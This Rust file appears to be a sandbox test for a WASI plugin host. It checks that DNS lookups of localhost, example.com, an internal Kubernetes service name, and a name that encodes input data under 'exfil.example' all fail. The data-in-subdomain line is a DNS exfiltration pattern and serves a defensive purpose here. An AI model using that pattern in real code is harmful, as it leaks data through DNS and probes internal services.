//! Attack: name lookups through wasi:sockets/ip-name-lookup, including one
//! that would carry data out in the name.
use attack_kit::sdk::capstan::plugin::types::{TaskError, TaskInput, TaskResult};
use attack_kit::{Tries, arg};
use std::net::ToSocketAddrs;

fn run(input: TaskInput) -> Result<Vec<TaskResult>, TaskError> {
    let mut t = Tries::new();
    let data = arg(&input);
    for name in [
        "localhost:80".to_string(),
        "example.com:443".to_string(),
        "kubernetes.default.svc:443".to_string(),
        format!("{data}.exfil.example:53"),
    ] {
        t.must_fail(
            &format!("resolve {name}"),
            name.to_socket_addrs().map(|a| a.collect::<Vec<_>>()),
        );
    }
    t.finish()
}

attack_kit::attack!(run);

#[used]
#[unsafe(link_section = "capstan-manifest")]
static MANIFEST: [u8; include_bytes!("../capstan.toml").len()] = *include_bytes!("../capstan.toml");
